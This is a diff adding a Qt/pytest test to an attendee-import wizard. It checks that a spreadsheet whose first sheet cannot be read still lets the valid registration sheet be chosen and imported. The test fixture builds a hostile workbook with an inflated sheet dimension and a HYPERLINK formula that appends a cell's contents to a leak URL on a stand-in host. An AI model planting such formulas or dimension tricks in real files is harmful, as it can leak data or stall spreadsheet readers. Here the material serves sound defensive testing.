@@ -118,3 +118,55 @@ def test_a_guessed_encoding_is_shown_and_corrected(
     assert reports and reports[0].created == 1 and reports[0].encoding == "mac-roman"
     names = {r.name for r in registrations.list_registrations(state.workspace, demo_morning)}
     assert "Aurélie Deschênes" in names
+
+
+def hostile_first_xlsx(path: Path) -> Path:
+    """A draft sheet first that no reader should build (a cell at the last cell of a sheet, so a
+    dimension claiming the whole sheet; formulas; merged junk), then notes, then the list."""
+    wb = Workbook()
+    draft = wb.active
+    draft.title = "Brouillon"
+    draft["A1"] = "=SUM(B2:B9)"
+    draft["B2"] = '=HYPERLINK("http://x.example/?leak="&C2,"Voir")'
+    draft.merge_cells("A3:F40")
+    draft["XFD1048576"] = "x"
+    notes = wb.create_sheet("Notes")
+    notes.append(["À rappeler la veille"])
+    people = wb.create_sheet("Inscrits")
+    people.append(["Nom", "Prénom", "E-mail"])
+    people.append(["Chraïbi", "Leïla", "leila@medias24.ma"])
+    people.append(["Ouazzani", "Nizar", "nizar@ouazzani-conseil.ma"])
+    wb.save(path)
+    return path
+
+
+def test_a_hostile_first_sheet_leaves_the_others_to_choose(  # type: ignore[no-untyped-def]
+    qtbot, state, demo_morning, tmp_path, monkeypatch
+) -> None:
+    """Before: the draft sheet's refusal refused the whole file, although the list was fine."""
+    screen = screen_for(qtbot, state, demo_morning)
+    monkeypatch.setattr(import_wizard, "show_import_error", lambda p, exc: pytest.fail(str(exc)))
+    reports: list[object] = []
+    monkeypatch.setattr(import_wizard, "show_report", lambda parent, report: reports.append(report))
+    seen: list[QWidget] = []
+    offered: list[list[str]] = []
+    said: list[str] = []
+
+    def pick(dialog: QWidget) -> None:
+        assert isinstance(dialog, SheetDialog)
+        offered.append([dialog.sheets.itemText(i) for i in range(dialog.sheets.count())])
+        said.append(dialog.unreadable.text())
+        assert dialog.unreadable.isVisible()
+        SHOTS.mkdir(exist_ok=True)
+        dialog.grab().save(str(SHOTS / "import-sheet-unreadable.png"))
+        press_key(dialog.sheets, Qt.Key.Key_Return)  # the list found, as proposed
+
+    answer(SheetDialog, pick, seen)
+    screen.import_file(hostile_first_xlsx(tmp_path / "Matinale.xlsx"))
+    assert seen, "the sheet was not asked"
+    assert offered == [["Notes", "Inscrits"]]
+    assert said[0].endswith(".") and ". " not in said[0] and "“Brouillon”" in said[0]  # one
+    assert "1048575 rows" in said[0] or "XFD1048576" in said[0]
+    assert reports and reports[0].sheet == "Inscrits" and reports[0].created == 2
+    names = {r.name for r in registrations.list_registrations(state.workspace, demo_morning)}
+    assert {"Leïla Chraïbi", "Nizar Ouazzani"} <= names
